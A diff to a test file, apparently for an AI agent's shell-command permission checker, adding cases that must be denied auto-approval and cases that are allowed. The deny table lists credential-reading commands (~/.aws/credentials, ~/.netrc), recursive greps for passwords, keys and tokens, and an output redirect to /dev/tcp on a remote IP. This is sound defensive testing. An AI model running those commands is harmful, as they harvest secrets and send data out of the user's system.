@@ -119,6 +119,10 @@ describe('commands: refused for auto-allow with ls echo cat find rg sed git grep
     ['grep --file=/home/u/.aws/credentials x', 'floor'],
     ['ls > /dev/tcp/1.2.3.4/80', 'command.redirect'],
     ['cat < ~/.netrc', 'floor'],
+    ['grep -rn password ~', 'floor'],
+    ['grep -R key /home', 'floor'],
+    ['rg token ..', 'floor'],
+    ['grep --recursive x /', 'floor'],
   ])('%s → %s', async (text, rule) => {
     const decision = await run(cmd(text));
     expect(decision).toMatchObject({ kind: 'deny', rule });
@@ -126,6 +130,9 @@ describe('commands: refused for auto-allow with ls echo cat find rg sed git grep
 
   it.each([
     'ls -la | grep x',
+    'grep -rn TODO src',
+    'rg token src',
+    'ls ~',
     'ls -la',
     'git status',
     "grep -n 'a|b' src/x.ts",
